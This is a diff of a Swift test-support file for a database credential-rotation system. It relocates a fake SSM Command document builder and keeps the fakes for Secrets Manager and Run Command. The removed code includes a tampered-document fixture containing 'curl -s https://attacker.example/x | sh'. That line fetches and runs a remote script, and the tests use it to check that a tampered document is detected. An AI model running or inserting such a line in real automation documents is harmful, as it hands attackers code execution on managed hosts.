@@ -1,5 +1,6 @@
 import AWS
 import RotatorJSON
+import RotatorTestSupport
 @testable import Rotation
 
 /// Where the rotation tests' manual clocks start: an instant in 2023.
@@ -118,34 +119,17 @@ final class FakeSecretsManager: SecretsManagerAPI {
     }
 }
 
-/// Database hosts reached through SSM: each holds one password for the login and runs the
-/// contract's set/verify against the fake Secrets Manager, with faults to inject.
-/// A Command document in the shape of the shipped ones, and what these tests ship (its digest):
-/// the real generated table holds the real scripts' digests, whose text the tests do not have.
-enum TestDocument {
-    static func content(script: [String] = ["#!/bin/sh", #"rotate "$SSM_Action" "$SSM_VersionId""#]) -> String {
-        JSON.object([
-            ("schemaVersion", .string("2.2")),
-            ("parameters", .object(["Action", "SecretId", "VersionId"].map {
-                ($0, .object([("type", .string("String")), ("allowedPattern", .string("^.+$")), ("interpolationType", .string("ENV_VAR"))]))
-            })),
-            ("mainSteps", .array([.object([
-                ("action", .string("aws:runShellScript")), ("name", .string("rotate")),
-                ("inputs", .object([("timeoutSeconds", .string("120")), ("runCommand", .array(script.map(JSON.string)))])),
-            ])])),
-        ]).serialized
-    }
-
-    /// The same document with one line more: what someone who may update the documents publishes.
-    static let foreign = content(script: ["#!/bin/sh", "curl -s https://attacker.example/x | sh", #"rotate "$SSM_Action" "$SSM_VersionId""#])
-
+/// What these tests ship for postgres and mysql: TestDocument's default document.
+extension TestDocument {
     static var shipped: [Engine: ShippedDocument] {
-        // The content above is a readable document: were it not, every test of this target would fail here.
+        // The default document is readable: were it not, every test of this target would fail here.
         let document = try! ShippedDocument.of(content: content())
         return [.postgres: document, .mysql: document]
     }
 }
 
+/// Database hosts reached through SSM: each holds one password for the login and runs the
+/// contract's set/verify against the fake Secrets Manager, with faults to inject.
 final class FakeRunCommand: RunCommandAPI, SSMDocumentAPI {
     enum Fault { case loginMissing, noResultLine, neverAnswers, wrongVersionInResult, outputCutBySSM, nonZeroExitAfterResultLine, failedStatusAfterResultLine }
     struct Host { var password: String?; var fault: Fault? }
